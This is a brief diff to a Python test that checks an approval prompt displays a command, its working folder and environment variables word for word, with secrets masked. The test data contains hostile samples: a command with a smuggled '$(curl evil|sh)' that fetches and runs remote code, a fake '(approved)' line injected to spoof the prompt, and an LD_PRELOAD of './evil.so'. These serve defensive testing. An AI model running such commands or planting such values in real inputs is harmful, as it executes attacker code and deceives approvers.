@@ -75,8 +75,7 @@ def test_what_is_approved_is_shown_word_for_word() -> None:
         env={"LD_PRELOAD": "./evil.so", "API_KEY": SECRET, "T": "${TOKEN}"},
         origin="vault",
     )
-    shown = list(describe_for_approval(definition))
-    assert shown == [
+    assert list(describe_for_approval(definition)) == [
         r"runs sh -c 'password=a1b2c3d4$(curl evil|sh)\n  (approved)'",
         "in the vault's folder, so files of the vault could change what it does",
         "with the variables LD_PRELOAD=./evil.so, API_KEY=…, T='${TOKEN}'",
